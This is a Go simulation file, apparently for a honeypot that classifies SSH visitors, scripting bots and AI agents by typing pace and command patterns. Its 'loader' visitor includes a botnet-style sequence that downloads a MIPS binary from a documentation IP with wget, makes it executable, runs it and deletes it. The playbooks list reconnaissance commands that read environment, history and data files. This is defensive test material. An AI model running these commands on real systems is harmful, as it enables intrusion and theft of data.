package simulate

import "gait"

// playbook is a list of steps made beforehand: hardly a tool comes twice.
var playbook = []string{
	"uname -a", "id", "nproc", "free -m", "df -h", "ps aux", "ss -tn", "env", "crontab -l", "ls -la /opt/shop",
	"cat /etc/os-release", "find /srv/www -name '*.php'", "history", "uptime", "w",
}

// investigation goes deeper where it finds something: few tools, used often.
var investigation = []string{
	"ls -la /srv/www", "cat /srv/www/index.html", "ls -la /opt/shop", "cat /opt/shop/orders.conf", "grep -n upload /opt/shop/orders.conf",
	"ls -la /var/lib/shop", "find /var/lib/shop -type f", "cat /var/lib/shop/export.sql", "grep -n mail /var/lib/shop/export.sql", "ls -la /home/ops",
	"cat /home/ops/old.txt", "ls -la /home", "cat /home/ops/report.txt", "find /etc/web -type f", "cat /etc/web/access.conf",
}

// lines pastes line after line; pause gives how long to wait once the answer
// of a size has come.
func (t *tape) lines(list []string, pause func(size int64) int64) {
	t.land()
	t.wait(pause(120))
	for _, line := range list {
		t.wait(pause(t.paste(line)))
	}
	t.paste("exit")
}

var loader = Visitor{
	Name: "loader",
	Doc:  "A script that sends whole lines at one pace and reads nothing.",
	Shows: []Shown{
		{"motor.input_modality", []string{"pasted"}},
		{"motor.paste_burst_rate", []string{"habitual"}},
		{"cognitive.inter_command_latency_class", []string{"instant"}},
		{"cognitive.inter_command_consistency", []string{"metronomic"}},
	},
	play: func(t *tape) {
		t.land()
		for _, line := range []string{
			"enable", "system", "shell", "sh", "/bin/busybox PROBE", "cat /proc/mounts; /bin/busybox PROBE", "cd /tmp || cd /var/run",
			"wget http://198.51.100.23/bins/sample.mips -O sample", "chmod 777 sample", "./sample loader.wget", "rm sample", "/bin/busybox DONE",
		} {
			t.now = max(t.now, t.pressed+150*ms+t.below(2*ms))
			t.paste(line)
		}
	},
}

// agentScript is what the agent writes through a here-document.
const agentScript = "cat > /tmp/survey.sh <<'END'\r#!/bin/sh\rfor d in /opt /srv; do\r  ls \"$d\"\rdone\rEND"

var agent = Visitor{
	Name: "agent",
	Doc:  "A program that thinks for some seconds after the end of the output, then sends whole lines, also here-documents.",
	Shows: []Shown{
		{"motor.input_modality", []string{"pasted"}},
		{"motor.paste_burst_rate", []string{"habitual"}},
		{"cognitive.inter_command_latency_class", []string{"llm_lightweight", "llm_heavyweight"}},
	},
	play: func(t *tape) {
		think := []quantile{{0, 2600 * ms}, {500, 5500 * ms}, {900, 14 * sec}, {1000, 30 * sec}}
		t.land()
		t.wait(t.draw(think))
		for i, line := range some(t.dice, playbook, 8) {
			if i == 4 {
				t.send(agentScript+"\r", "cat > /tmp/survey.sh <<'END'\r\n> #!/bin/sh\r\n> for d in /opt /srv; do\r\n>   ls \"$d\"\r\n> done\r\n> END\r\n"+prompt)
				t.wait(t.draw(think))
				t.paste("sh /tmp/survey.sh")
				t.wait(t.draw(think))
			}
			t.paste(line + " 2>/dev/null")
			t.wait(t.draw(think))
		}
		t.paste("exit")
	},
}

var login = Visitor{
	Name: "exec",
	Doc:  "One command given at login, and no terminal.",
	Shows: []Shown{
		{"motor.input_modality", nil},
		{"cognitive.command_branch_diversity", []string{"unknown"}},
	},
	play: func(t *tape) {
		t.event(gait.Exec, "uname -a; nproc; free -m")
		for _, tool := range []string{"uname", "nproc", "free"} {
			t.wait(t.between(6*ms, 40*ms))
			t.print(t.run(tool))
		}
	},
}

var youSim = Visitor{
	Name: "you-sim",
	Doc:  "Calibration class: a playbook pasted or half typed at the pace of typing.",
	Shows: []Shown{
		{"motor.input_modality", []string{"pasted", "mixed"}},
		{"cognitive.inter_command_latency_class", []string{"typing_speed"}},
		{"cognitive.command_branch_diversity", []string{"linear_playbook"}},
	},
	play: func(t *tape) {
		p := newPerson(t)
		p.land()
		p.wait(p.between(600*ms, 1200*ms))
		for _, line := range some(p.dice, playbook, 9) {
			if len(line) <= 2 {
				p.typed(line)
			} else {
				p.paste(line)
			}
			p.wait(p.between(450*ms, 1200*ms))
		}
		p.paste("exit")
	},
}

var lwSim = Visitor{
	Name: "lw-sim",
	Doc:  "Calibration class: a playbook, each line pasted after the few seconds that a small model takes.",
	Shows: []Shown{
		{"motor.input_modality", []string{"pasted"}},
		{"motor.paste_burst_rate", []string{"habitual"}},
		{"cognitive.inter_command_latency_class", []string{"llm_lightweight"}},
		{"cognitive.command_branch_diversity", []string{"linear_playbook"}},
	},
	play: func(t *tape) {
		t.lines(some(t.dice, playbook, 9), func(int64) int64 { return t.between(2400*ms, 6800*ms) })
	},
}

var claudeFF = Visitor{
	Name: "claude-ff",
	Doc:  "Calibration class: a playbook, each line pasted after the many seconds that a large model takes, whatever was shown.",
	Shows: []Shown{
		{"motor.input_modality", []string{"pasted"}},
		{"motor.paste_burst_rate", []string{"habitual"}},
		{"cognitive.inter_command_latency_class", []string{"llm_heavyweight"}},
		{"cognitive.command_branch_diversity", []string{"linear_playbook"}},
		{"cognitive.feedback_loop_engagement", []string{"fire_and_forget"}},
	},
	play: func(t *tape) {
		// The next line is made while a long answer is still being printed, so
		// that what follows it comes sooner, not later.
		t.lines(some(t.dice, playbook, 10), func(size int64) int64 {
			return 24*sec - min(size, 1000)*12*ms + t.below(3*sec)
		})
	},
}

var claudeCL = Visitor{
	Name: "claude-cl",
	Doc:  "Calibration class: lines pasted after long thought, the longer the more was shown, branching as the output leads.",
	Shows: []Shown{
		{"motor.input_modality", []string{"pasted"}},
		{"motor.paste_burst_rate", []string{"habitual"}},
		{"cognitive.inter_command_latency_class", []string{"long"}},
		{"cognitive.command_branch_diversity", []string{"adaptive_branching"}},
		{"cognitive.feedback_loop_engagement", []string{"closed_loop"}},
	},
	play: func(t *tape) {
		t.lines(some(t.dice, investigation, 11), func(size int64) int64 {
			return 32*sec + size*15*ms + t.below(6*sec)
		})
	},
}
